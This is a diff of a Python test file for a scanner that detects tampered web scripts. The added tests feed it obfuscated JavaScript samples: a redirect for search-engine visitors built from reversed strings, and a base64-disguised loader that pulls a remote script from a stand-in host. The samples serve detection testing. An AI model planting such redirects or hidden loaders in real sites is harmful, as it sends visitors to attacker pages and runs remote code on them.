@@ -265,3 +265,40 @@ def test_a_host_with_capitals_or_umlauts_is_not_disguised(address):
 def test_a_host_that_is_put_together_is_disguised():
     code = "var r=document.referrer;window.open('https://b'+'ad.te'+'st/')"
     assert [sign.sign for sign in found(code)] == [TamperSign.SCRIPT_REDIRECTS]
+
+
+BACKWARDS = (
+    "var C={to:'%s',from:['elgoog','oohay']};(function(c){var f=function(x){return x.split('').reverse().join('')},"
+    "r=document['refe'+'rrer'];for(var i in c.from)if(r.indexOf(f(c.from[i]))>0)"
+    "window['loca'+'tion']['rep'+'lace'](f(c.to))})(C)"
+)
+
+
+def test_visitors_of_engines_whose_names_stand_backwards_are_sent_to_an_address_that_does_as_well():
+    code = BACKWARDS % "https://land.bad.test/x"[::-1]
+    (sign,) = found(code)
+    assert (sign.sign, sign.leads_to) == (TamperSign.SCRIPT_REDIRECTS, ("https://land.bad.test/x",))
+    assert may_send_away(code, find_marks(code.lower().encode()))
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        BACKWARDS % "https://www.corp.test/welcome"[::-1],
+        (BACKWARDS % "https://land.bad.test/x"[::-1]).replace("elgoog", "eert-a").replace("oohay", "dlrow"),
+        (BACKWARDS % "https://land.bad.test/x"[::-1]).replace("['rep'+'lace'](f(c.to))", "['ha'+'sh']='#top'"),
+    ],
+)
+def test_the_own_site_other_words_and_places_of_the_page_are_no_redirect(code):
+    assert found(code) == []
+
+
+def test_a_script_that_hides_the_word_script_and_an_address_loads_one():
+    words = ["script", "src", "//cdn.bad.test/lib.js", "head", "appendChild", "cookie"]
+    listed = ",".join(f"'{b64encode(word.encode()).decode()}'" for word in words)
+    code = (
+        f"function _l(){{return [{listed}]}}function _w(i){{return atob(_l()[i])}}var s=document.createElement(_w(0))"
+    )
+    (sign,) = found(code)
+    assert (sign.sign, sign.leads_to[0]) == (TamperSign.SCRIPT_WRITES, "https://cdn.bad.test/lib.js")
+    assert found(code.replace(b64encode(b"script").decode(), b64encode(b"canvas").decode())) == []
